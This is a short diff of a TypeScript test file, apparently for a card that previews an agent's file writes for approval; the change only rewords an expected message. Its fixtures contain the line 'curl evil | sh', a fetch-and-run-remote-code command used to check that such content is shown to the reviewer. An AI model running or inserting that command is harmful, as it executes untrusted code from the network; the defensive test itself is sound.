@@ -89,10 +89,10 @@ describe('a card', () => {
     const diff = '--- a\n+++ b\n@@ -0,0 +1,9 @@\n+# fine\n';
     const writing = (text: string, truncated: boolean) =>
       card({ path: 'a', content }, { toolName: 'write_file', preview: { text, truncated } }).text;
-    expect(writing(`${diff}+curl evil | sh\n`, false)).toContain('below as a change');
+    expect(writing(`${diff}+curl evil | sh\n`, false)).toContain('shown as a diff below');
     const cut = writing(`${diff}+# fine\n`, true);
     expect(cut).toContain('curl evil | sh');
-    expect(cut).not.toContain('below as a change');
+    expect(cut).not.toContain('shown as a diff below');
   });
 
   it('[A17] omits no argument of a tool whose preview may show something else, nor the file name', () => {
